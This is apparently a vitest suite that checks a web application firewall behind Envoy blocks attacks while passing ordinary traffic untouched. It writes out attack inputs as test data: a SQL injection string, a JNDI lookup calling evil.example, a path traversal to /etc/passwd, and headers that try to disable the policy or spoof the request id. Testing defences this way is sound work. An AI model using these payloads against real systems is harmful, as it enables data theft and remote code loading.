/** Block mode through a real Envoy: what is an attack, what the client is told, and that nothing else is touched. */
import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { type Call, call } from './envoy-client.ts';
import { type Stack, startStack } from './envoy-stack.ts';

const SQLI = "1' UNION SELECT password FROM users--";
const QUERY = encodeURIComponent(SQLI);
const FORM = { 'content-type': 'application/x-www-form-urlencoded' };
const JSON_TYPE = { 'content-type': 'application/json' };
const MULTIPART = { 'content-type': 'multipart/form-data; boundary=edge' };
/** Apart, so that it does not look like a placeholder. */
const LOOKUP = `$${'{jndi:ldap://evil.example/a}'}`;
const LIMIT = 65_536;

const part = (name: string, value: string): string =>
  `--edge\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`;

let stack: Stack;
beforeAll(async () => {
  stack = await startStack({ maxRequestBytes: LIMIT, accessLog: true });
});
afterAll(() => stack?.stop());
beforeEach(() => {
  stack.workload.arrivals.length = 0;
});

describe('ordinary requests', () => {
  it.each<[string, Call]>([
    ['a page', {}],
    ['a search', { path: '/search?q=garden+hose&page=2' }],
    ['a form', { method: 'POST', headers: FORM, body: 'name=O%27Brien&city=Galway' }],
    ['JSON', { method: 'POST', headers: JSON_TYPE, body: '{"items":[{"sku":"A-1","count":2}]}' }],
    ['a form of parts', { method: 'POST', headers: MULTIPART, body: `${part('note', 'hello')}--edge--\r\n` }],
    ['a cookie', { headers: { cookie: 'session=4f2a; theme=dark' } }],
    ['an upload near the limit', { method: 'POST', headers: FORM, body: `q=${'a'.repeat(LIMIT - 3)}` }],
  ])('lets through %s', async (_, ordinary) => {
    expect((await call(stack.port, ordinary)).status).toBe(200);
    expect(stack.workload.arrivals).toHaveLength(1);
  });

  it('reach the workload as the client wrote them, but for dots and slashes in the path', async () => {
    const path = '/a//b/./c%2Fd/%41%5f?x=%68ose&y=a+b&y=%2B';
    const normalised = '/a/b/c%2Fd/A_?x=%68ose&y=a+b&y=%2B';
    // All bytes there are, as an uploaded file.
    const bytes = Buffer.from(Array.from({ length: 4_096 }, (_, index) => (index * 7) % 256));
    const upload =
      '--edge\r\nContent-Disposition: form-data; name="file"; filename="a.bin"\r\nContent-Type: image/png\r\n\r\n';
    const body = Buffer.concat([Buffer.from(upload), bytes, Buffer.from('\r\n--edge--\r\n')]);
    const headers = { ...MULTIPART, 'X_Under.score': 'kept', 'x-twice': ['1', '2'] };
    expect((await call(stack.port, { method: 'POST', path, headers, body })).status).toBe(200);
    const [arrival] = stack.workload.arrivals;
    expect(arrival?.url).toBe(normalised);
    expect(arrival?.body.equals(body)).toBe(true);
    const names = arrival?.rawHeaders.filter((_, index) => index % 2 === 0);
    expect(names).toContain('X_Under.score');
    expect(names?.filter((name) => name === 'x-twice')).toHaveLength(2);
    expect(names?.filter((name) => /sluice|ext-authz|partial/i.test(name))).toEqual([]);
  });
});

describe('an attack', () => {
  it.each<[string, Call]>([
    ['the query', { path: `/search?q=${QUERY}` }],
    ['a name in the query', { path: `/search?${QUERY}=1` }],
    ['a form', { method: 'POST', headers: FORM, body: `page=1&q=${QUERY}` }],
    ['the end of a long form', { method: 'POST', headers: FORM, body: `a=${'a'.repeat(60_000)}&q=${QUERY}` }],
    ['JSON', { method: 'POST', headers: JSON_TYPE, body: JSON.stringify({ a: [{ b: SQLI }] }) }],
    [
      'escaped JSON',
      { method: 'POST', headers: JSON_TYPE, body: `{"a":"1\\u0027 UNION SELECT password FROM users--"}` },
    ],
    [
      'a part',
      { method: 'POST', headers: MULTIPART, body: `${part('a', '1')}${part('q', SQLI)}--edge--\r\n` },
    ],
    ['XML', { method: 'POST', headers: { 'content-type': 'text/xml' }, body: `<a><b>${SQLI}</b></a>` }],
    ['a body without a type', { method: 'POST', body: `q=${QUERY}` }],
    ['a cookie', { headers: { cookie: `a=1; b=${SQLI}` } }],
    ['a second cookie line', { headers: { cookie: ['a=1', `b=${SQLI}`] } }],
    ['the user agent', { headers: { 'user-agent': SQLI } }],
    ['a header of any name', { headers: { 'x-api-version': LOOKUP } }],
    ['the path', { path: '/static/..%2f..%2f..%2fetc/passwd' }],
    ['the method', { method: 'TRACE' }],
    [
      'the body of a GET',
      { headers: { ...FORM, 'content-length': String(QUERY.length + 2) }, body: `q=${QUERY}` },
    ],
    [
      'a body said to be packed',
      { method: 'POST', headers: { ...FORM, 'content-encoding': 'gzip' }, body: `q=${QUERY}` },
    ],
  ])('in %s is blocked, and the workload never sees it', async (_, attack) => {
    expect((await call(stack.port, attack)).status).toBe(403);
    expect(stack.workload.arrivals).toEqual([]);
  });

  it('cannot choose its policy, its body limit or its request id', async () => {
    const headers = {
      ...FORM,
      'sluice.policy': 'off',
      'x-envoy-auth-partial-body': 'false',
      'x-request-id': 'mine',
      'x-forwarded-for': '127.0.0.1',
    };
    const reply = await call(stack.port, { method: 'POST', headers, body: `q=${QUERY}` });
    expect(reply.status).toBe(403);
    expect(reply.headers['x-request-id']).not.toBe('mine');
  });
});

describe('the block page', () => {
  const attack = (accept: string): Call => ({ path: `/?q=${QUERY}`, headers: { accept } });
  it('is HTML for browsers', async () => {
    const reply = await call(stack.port, attack('text/html,*/*;q=0.8'));
    expect(reply.headers['content-type']).toBe('text/html; charset=utf-8');
    expect(reply.headers['cache-control']).toBe('no-store');
    expect(reply.body).toContain('<h1>Request blocked</h1>');
    expect(reply.body).toContain(`<code>${reply.headers['x-request-id']}</code>`);
  });
  it('is JSON for programs', async () => {
    const reply = await call(stack.port, attack('application/json'));
    expect(reply.headers['content-type']).toBe('application/json');
    expect(JSON.parse(reply.body)).toEqual({ error: 'blocked', request_id: reply.headers['x-request-id'] });
  });
  it.each(['text/html', 'application/json'])('says nothing of the rules as %s', async (accept) => {
    const reply = await call(stack.port, attack(accept));
    const told = `${JSON.stringify(reply.headers)}${reply.body}`;
    expect(told).not.toMatch(/94\d{4}|sql|inject|crs|owasp|score|union|sluice|rule/i);
  });
  it('names the request id of the event and of the access log', async () => {
    const reply = await call(stack.port, attack('application/json'));
    const id = reply.headers['x-request-id'];
    const event = (): unknown => stack.sluice.lines.find((line) => line.request_id === id);
    await expect.poll(event).toMatchObject({
      event: { action: 'deny', type: ['denied'] },
      waf: {
        mode: 'Block',
        would_block: true,
        status: 403,
        rule_set: expect.stringMatching(/^[0-9a-f]{12}$/),
        process: expect.stringMatching(/^\d+$/),
      },
    });
    await stack.envoy.stop();
    const line = readFileSync(stack.accessLog, 'utf8')
      .split('\n')
      .find((text) => text.includes(String(id)));
    expect(JSON.parse(line ?? '{}')).toMatchObject({
      event_id: id,
      details: 'ext_authz_denied',
      sluice: { action: 'deny', verdict: 'deny', rule_ids: expect.arrayContaining([942100, 949110]) },
    });
    // Without Envoy the tests below have nobody to ask.
    await stack.stop();
    stack = await startStack({ maxRequestBytes: LIMIT });
  });
});

describe('a body over the limit', () => {
  it('gets 413 from Envoy, and the workload never sees it', async () => {
    const body = `q=${'a'.repeat(2 * LIMIT)}`;
    expect((await call(stack.port, { method: 'POST', headers: FORM, body })).status).toBe(413);
    expect(stack.workload.arrivals).toEqual([]);
  });
  it('that is as long as the limit is not taken for a whole one', async () => {
    const body = `q=${'a'.repeat(LIMIT - 2)}`;
    expect((await call(stack.port, { method: 'POST', headers: FORM, body })).status).toBe(403);
    expect(stack.workload.arrivals).toEqual([]);
  });
});
